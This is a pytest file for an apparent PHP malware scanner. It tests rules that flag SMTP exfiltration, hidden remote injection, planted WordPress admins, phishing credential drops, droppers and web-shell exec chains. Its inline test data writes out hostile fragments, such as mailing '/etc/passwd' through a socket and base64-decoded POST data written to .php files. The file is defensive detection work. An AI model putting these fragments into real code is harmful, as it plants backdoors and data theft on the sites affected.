    assert "mailer.raw-smtp-dialogue" not in rule_ids(analyze_bytes(check))
    leak = head + tail + b"fwrite($f, file_get_contents('/etc/passwd') . \"\\r\\n.\\r\\n\");\n"
    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(leak))
    away = check.replace(b"'localhost'", b"'mx.example.invalid'")
    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(away))
    held = check.replace(b"fsockopen('localhost'", b"fsockopen($host")
    assert "mailer.raw-smtp-dialogue" in rule_ids(analyze_bytes(held))


def test_request_input_handed_to_a_helper_function_is_followed_into_its_parameters() -> None:
    """A downloader and a remailer that pass the request to a function of their own
    (``pull_to($_REQUEST['src'], $_REQUEST['to'])``, ``deliver(trim($_POST['r']), ...)``) do
    inside it what the same code does with the request read there: the parameters hold the
    request's values. A subject sent as an RFC 2047 encoded word (``'=?UTF-8?B?' .
    base64_encode($s) . '?='``) is the visitor's words still, and ``mail("$to", ...)`` mails
    ``$to``. Not followed: a value the file refuses unless it matches its own pattern, a
    helper given a fixed recipient, an argument the script builds around the input
    (``run('git pull ' . $url)``: judged where it is built)."""
    fetch = analyze_file(SAMPLES / "malicious" / "fetch-helper-request-args.php")
    assert {"php.fetch-request-url", "php.fetch-request-saved"} <= rule_ids(fetch)
    assert fetch.verdict is ScanVerdict.MALICIOUS
    relay = analyze_file(SAMPLES / "malicious" / "relay-helper-encoded-subject.php")
    assert "mailer.mail-request-recipient" in rule_ids(relay)
    assert relay.verdict is ScanVerdict.MALICIOUS
    for name in (
        "helper-encoded-command-arg.php",
        "helper-checked-expression.php",
        "mail-helper-contact-form.php",
    ):
        assert analyze_file(SAMPLES / "clean" / name).verdict is ScanVerdict.CLEAN, name
    # the same look-alikes with the check or the fixed recipient taken away run the input
    code = (SAMPLES / "clean" / "helper-checked-expression.php").read_bytes()
    unchecked = code.replace(b"if (!preg_match(", b"if (!is_string($sum) && preg_match(")
    assert unchecked != code
    assert analyze_bytes(unchecked).verdict is ScanVerdict.MALICIOUS
    code = (SAMPLES / "clean" / "mail-helper-contact-form.php").read_bytes()
    anyone = code.replace(b"send_note('office@example.org',", b"send_note($_POST['to'],")
    assert anyone != code
    assert "mailer.mail-request-recipient" in rule_ids(analyze_bytes(anyone))
    # the subject as it came, not encoded: the same relay
    code = (SAMPLES / "malicious" / "relay-helper-encoded-subject.php").read_bytes()
    plain = code.replace(b"    $topic = '=?UTF-8?B?' . base64_encode($topic) . '?=';\n", b"")
    assert plain != code
    assert analyze_bytes(plain).verdict is ScanVerdict.MALICIOUS


def test_what_a_hidden_address_answers_printed_is_an_injection() -> None:
    """A page prints what a web address it hides answers (base64, rot13 or reversed, fetched
    through a function of its own or directly, printed as it came or decoded once): the
    operator writes into the site's pages. The same fetch from an address written out, or a
    hidden licence address whose answer is only tested, prints nothing of the operator's. (The
    sample's fetching function names its parameter as the variable that holds the address:
    that parameter's uses in the function are not uses of the variable.)"""
    code = (SAMPLES / "malicious" / "hidden-remote-printed.php").read_bytes()
    result = analyze_bytes(code)
    assert "php.hidden-remote-printed" in rule_ids(result)
    assert result.verdict is ScanVerdict.MALICIOUS
    written = code.replace(
        b"base64_decode('aHR0cDovLzE5OC41MS4xMDAuNy9ibG9ja3MvP2lkPTQy')",
        b"'http://198.51.100.7/blocks/?id=42'",
    )
    assert written != code
    assert "php.hidden-remote-printed" not in rule_ids(analyze_bytes(written))
    tested = code.replace(b"print $shown;", b"$ok = strlen($shown) > 0;")
    assert tested != code
    assert "php.hidden-remote-printed" not in rule_ids(analyze_bytes(tested))


def test_an_account_hidden_from_everyone_but_itself_by_a_stored_id() -> None:
    """A users-list hook that leaves out the account whose id an option holds, unless the
    signed-in user is that account, and checks no capability: a planted administrator.
    A plugin that hides an account from users without a capability, and a list that leaves
    out the signed-in user's own account, are not."""
    code = (SAMPLES / "malicious" / "wp-hidden-admin-by-id.php").read_bytes()
    result = analyze_bytes(code)
    assert "shell.wp-hidden-user" in rule_ids(result)
    assert result.verdict is ScanVerdict.MALICIOUS
    for old, new in (
        (b"(int) get_option('_site_aux_uid')", b"(int) $_GET['uid']"),  # not a stored id
        (b"$me === $keep", b"$me === 0"),  # the hidden account not let through
    ):
        changed = code.replace(old, new)
        assert changed != code, old
        assert "shell.wp-hidden-user" not in rule_ids(analyze_bytes(changed)), new
    plugin = (SAMPLES / "clean" / "wp-hide-users-capability.php").read_bytes()
    assert "shell.wp-hidden-user" not in rule_ids(analyze_bytes(plugin))
    unguarded = plugin.replace(b"current_user_can('manage_options')", b"false")
    assert unguarded != plugin
    assert "shell.wp-hidden-user" in rule_ids(analyze_bytes(unguarded))
    own = (SAMPLES / "clean" / "wp-users-exclude-self.php").read_bytes()
    assert "shell.wp-hidden-user" not in rule_ids(analyze_bytes(own))


def test_a_code_kept_in_the_session_and_a_whole_card_number_logged_are_dropped_fields() -> None:
    """A kit's code step keeps the typed code in the session through a variable
    (``$t = $_POST['sms']; $_SESSION['sms'] = $t;``) and mails it, labelled, with the
    visitor's address, to its inbox: the session entry is that form field. A card collector
    appends the card number as typed to a text file. A site's own code (random_int) kept in
    the session, and an order log that keeps the card's last four digits, are not."""
    for name in ("otp-step-session-relay.php", "card-number-log.php"):
        result = analyze_file(SAMPLES / "malicious" / name)
        assert "mailer.credentials-dropped" in rule_ids(result), name
        assert result.verdict is ScanVerdict.MALICIOUS, name
    for name in ("otp-site-code-mailed.php", "order-log-last-four.php"):
        assert analyze_file(SAMPLES / "clean" / name).verdict is ScanVerdict.CLEAN, name
    code = (SAMPLES / "malicious" / "otp-step-session-relay.php").read_bytes()
    own = code.replace(b"$typed = $_POST['sms'];", b"$typed = (string) random_int(1, 9);")
    assert own != code
    assert "mailer.credentials-dropped" not in rule_ids(analyze_bytes(own))
    code = (SAMPLES / "malicious" / "card-number-log.php").read_bytes()
    masked = code.replace(b"$_POST['card_number']", b"substr($_POST['card_number'], -4)")
    assert masked != code
    assert "mailer.credentials-dropped" not in rule_ids(analyze_bytes(masked))
    other = code.replace(b"card_number", b"order_number").replace(b"Card number", b"Order")
    assert "mailer.credentials-dropped" not in rule_ids(analyze_bytes(other))


def test_a_decoded_script_of_another_language_written_and_run_is_a_dropped_tool() -> None:
    """A Python (or Perl, shell) script carried base64-encoded, written to a file and run by
    a command line naming that file: a back-connect or symlinker dropped and started. A
    script written as it is, or a decoded settings file that a command names, is not."""
    code = (SAMPLES / "malicious" / "decoded-script-run.php").read_bytes()
    result = analyze_bytes(code)
    assert "php.decoded-script-run" in rule_ids(result)
    assert result.verdict is ScanVerdict.MALICIOUS
    other = code.replace(b"python3 cb.py", b"python3 other.py")
    assert other != code
    assert "php.decoded-script-run" not in rule_ids(analyze_bytes(other))
    clean = (SAMPLES / "clean" / "installer-script-written.php").read_bytes()
    assert "php.decoded-script-run" not in rule_ids(analyze_bytes(clean))


def test_a_write_to_a_socket_is_no_dropper_but_a_write_to_a_file_still_is() -> None:
    """fwrite/fputs to a connection opened by fsockopen()/stream_socket_client() sends the
    request body to a peer (an RPC forwarder): no file is put on disk, so
    php.dropper-write-decoded stays quiet. The same write to a handle fopen()'d on a .php
    file, to a handle the file also opens with fopen() (in another function, or the socket's
    name reused), or to a handle it cannot follow (a parameter) is still a dropper."""
    forwarder = (
        b"<?php\n$s = fsockopen($host, 80);\n"
        b"fwrite($s, file_get_contents('php://input'));\necho fgets($s);\n"
    )
    assert "php.dropper-write-decoded" not in rule_ids(analyze_bytes(forwarder))
    assert analyze_bytes(forwarder).verdict is ScanVerdict.CLEAN
    client = forwarder.replace(b"fsockopen($host, 80)", b"@stream_socket_client('tcp://h:9')")
    assert "php.dropper-write-decoded" not in rule_ids(analyze_bytes(client))
    guarded = forwarder.replace(
        b"$s = fsockopen($host, 80);", b"if (!($s = fsockopen($host, 80))) { exit; }"
    )
    assert "php.dropper-write-decoded" not in rule_ids(analyze_bytes(guarded))
    for bad in (
        forwarder.replace(b"fsockopen($host, 80)", b"fopen(__DIR__ . '/x.php', 'w')"),
        forwarder + b"function w() { $s = fopen('cache.php', 'w'); fwrite($s, $_POST['c']); }\n",
        b"<?php\nfunction w($h, $d) { fwrite($h, base64_decode($d)); }\n",
        b"<?php\n$s = fsockopen('h', 80);\nfwrite($s, 'x');\n$s = fopen($_GET['f'], 'w');\n"
        b"fwrite($s, base64_decode($_POST['d']));\n",
    ):
        assert "php.dropper-write-decoded" in rule_ids(analyze_bytes(bad)), bad


_FILE_OPS_PAGE = (
    b"<?php\n$d = $_POST['d'] ?? '.';\n%s\n"
    b"if (isset($_POST['rm'])) { unlink($d . '/' . basename($_POST['rm'])); }\n"
    b"if (isset($_POST['mv'])) { rename($d . '/a', $d . '/b'); }\n"
    b"file_put_contents($d . '/log', 'x'); $h = fopen($d . '/log', 'a'); fwrite($h, 'y');\n"
    b"readfile($d . '/log'); mkdir($d . '/new');\n"
    b"?><form method=post><input name=d></form>\n"
)


@pytest.mark.parametrize(
    ("listing", "fires"),
    [
        (b"foreach (glob('*.zip') as $f) { echo $f; }", False),  # its own archives only
        (b"foreach (glob($d . '/*') as $f) { echo $f; }", True),  # the folder it is told
        (b"foreach (scandir(\"$d\") as $f) { echo $f; }", True),
        (b"chdir($d); foreach (glob('*') as $f) { echo $f; }", True),
        (b"", True),  # no listing in this code: not told apart
    ],
)
def test_file_manager_lists_a_folder_it_is_told(listing: bytes, fires: bool) -> None:
    """A page whose only listing is of fixed patterns beside it (a backup page offering its
    own *.zip files) manages no folder the visitor picks; one that lists a folder from a
    variable, or changes the working folder first, does."""
    result = analyze_bytes(_FILE_OPS_PAGE % listing)
    assert ("shell.file-manager" in rule_ids(result)) is fires


@pytest.mark.parametrize(
    ("calls", "fires"),
    [
        # the script's own command lines, one call each: no chain
        (b"system('mysqldump db > ' . escapeshellarg($out)); exec('tar -czf a.tgz www');"
         b" passthru('optipng ' . escapeshellarg($img));", False),
        # the same command tried several ways (a web shell's fallback chain)
        (b"if (function_exists('system')) { system($c); } elseif (function_exists('exec'))"
         b" { exec($c, $o); } else { passthru($c); }", True),
        # commands built from values (in command position) through three calls
        (b"$o = shell_exec($c); system($tool . ' -v'); $p = popen($c, 'r');", True),
        # two open calls beside the script's own lines: not three ways of one command
        (b"shell_exec($c); exec('tar -czf a.tgz www'); passthru('df -h'); system($c);", False),
    ],
)
def test_many_exec_functions_counts_commands_the_script_does_not_write(
    calls: bytes, fires: bool
) -> None:
    """A cron or backup script runs each fixed program with whichever call suits it; a web
    shell tries system, exec, passthru... on the command it was given."""
    src = b"<?php\n$c = $argv[1] ?? '';\n$tool = getenv('TOOL');\n" + calls + b"\n"
    assert ("shell.many-exec-functions" in rule_ids(analyze_bytes(src))) is fires


@pytest.mark.parametrize(
    ("listing", "fires"),
    [
        (b"$list = file(__DIR__ . '/data/subscribers.txt');", False),  # the site's own list
        (b"$list = explode(\"\\n\", $_POST['emails']);", True),  # pasted by the visitor
        (b"$raw = trim($_POST['emails']); $list = preg_split('/[\\s,]+/', $raw);", True),
        (b"$list = file($_FILES['list']['tmp_name']);", True),  # uploaded by the visitor
        (b"$t = file_get_contents(__DIR__ . '/list.txt'); $list = explode(\"\\n\", $t);", False),
        (b"$list = file('https://paste.example.net/raw/l.txt');", True),  # not the site's
        (b"$list = explode(\"\\n\", $this->emails);", True),  # cannot be told
    ],
)
def test_mail_loop_splits_the_visitors_list(listing: bytes, fires: bool) -> None:
    """A bulk sender mails every address the visitor pasted or uploaded (or a list fetched
    from elsewhere); a newsletter loops over the list the site keeps in a file of its own,
    the request only carrying its cron key."""
    src = (
        b"<?php\nif ($_GET['key'] !== 'k') { exit; }\n" + listing + b"\n"
        b"foreach ($list as $to) { mail(trim($to), 'News', 'Hello'); }\n"
    )
    assert ("mailer.mail-loop-request" in rule_ids(analyze_bytes(src))) is fires
